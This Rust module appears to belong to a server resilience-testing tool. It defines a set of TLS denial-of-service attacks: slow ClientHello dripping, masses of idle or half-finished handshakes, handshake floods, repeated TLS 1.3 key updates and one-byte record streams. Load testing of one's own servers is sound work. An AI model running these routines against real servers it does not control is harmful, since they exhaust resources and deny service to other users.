//! Attacks by TLS: handshakes that are not finished, many that are, and keys that are changed without end.

use std::{io::Write, net::TcpStream, time::Duration};

use crate::{
    bank::{Answer, Attack, Field},
    exchange::{connect, connect_securely},
    site::Served,
};

const CLASS: &str = "tls";
const HELD: usize = 300;
const SLOW: Duration = Duration::from_millis(200);
/// Handshakes of one act.
const FLOOD: usize = 20;
/// The begin of a record with a `ClientHello` of 512 bytes (RFC 8446, 4 and 5.1).
const HELLO: &[u8] = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";

fn attack(
    name: &'static str,
    clients: usize,
    act: impl Fn(&Field<'_>) -> Answer + Send + Sync + 'static,
) -> Attack {
    Attack::new(CLASS, name, clients, act).on(Served::Securely)
}

fn connections(field: &Field<'_>) -> Vec<TcpStream> {
    (0..HELD).filter_map(|_| connect(field)).collect()
}

/// A byte of a greeting now and then.
fn dripping(field: &Field<'_>) -> Answer {
    let mut held = connections(field);
    held.retain_mut(|stream| stream.write_all(HELLO).is_ok());
    field.hold(SLOW, || {
        held.retain_mut(|stream| stream.write_all(b"a").is_ok());
        !held.is_empty()
    })
}

/// A connection on which a whole greeting was sent, and nothing read.
fn greeted(field: &Field<'_>) -> Option<TcpStream> {
    let mut socket = connect(field)?;
    field.site.session(&[]).write_tls(&mut socket).ok()?;
    Some(socket)
}

/// The server has signed, and waits.
fn unfinished(field: &Field<'_>) -> Answer {
    let held: Vec<TcpStream> = (0..HELD).filter_map(|_| greeted(field)).collect();
    let answer = field.hold(SLOW, || true);
    drop(held);
    answer
}

/// Whole handshakes, without a request behind them.
fn handshakes(field: &Field<'_>) -> Answer {
    for _ in 0..FLOOD {
        if field.is_over() || connect_securely(field, &[]).is_none() {
            break;
        }
    }
    Answer::None
}

/// Other keys, again and again (RFC 8446, 4.6.3); renegotiation is no part of TLS 1.3, and rustls has none.
fn key_updates(field: &Field<'_>) -> Answer {
    let Some(mut stream) = connect_securely(field, &[]) else { return Answer::None };
    field.hold(SLOW, || {
        (0..1_000).all(|_| {
            stream.conn.refresh_traffic_keys().is_ok() && stream.conn.write_tls(&mut stream.sock).is_ok()
        })
    })
}

/// Records of one byte each.
fn small_records(field: &Field<'_>) -> Answer {
    let Some(mut stream) = connect_securely(field, &[]) else { return Answer::None };
    let head = format!("POST /graphql HTTP/1.1\r\nHost: {}\r\nX-a: ", field.site.address);
    if stream.write_all(head.as_bytes()).is_err() {
        return Answer::None;
    }
    field.hold(SLOW, || (0..1_000).all(|_| stream.write_all(b"b").is_ok()))
}

pub(crate) fn attacks() -> Vec<Attack> {
    vec![
        attack("connections that say nothing", 1, |field| {
            let _held = connections(field);
            field.hold(SLOW, || true)
        }),
        attack("greetings, a byte at a time", 1, dripping),
        attack("handshakes that are never finished", 1, unfinished),
        attack("clients that are gone behind their greeting", 4, |field| {
            let _gone: Vec<TcpStream> = (0..FLOOD).filter_map(|_| greeted(field)).collect();
            Answer::None
        }),
        attack("handshakes, one behind the other", 4, handshakes),
        attack("keys changed 1,000 times at once", 4, key_updates),
        attack("records of one byte", 4, small_records),
        attack("plain HTTP", 8, |field| {
            let text = format!("GET /health HTTP/1.1\r\nHost: {}\r\n\r\n", field.site.address);
            crate::exchange::send(field, text.as_bytes())
        }),
    ]
}
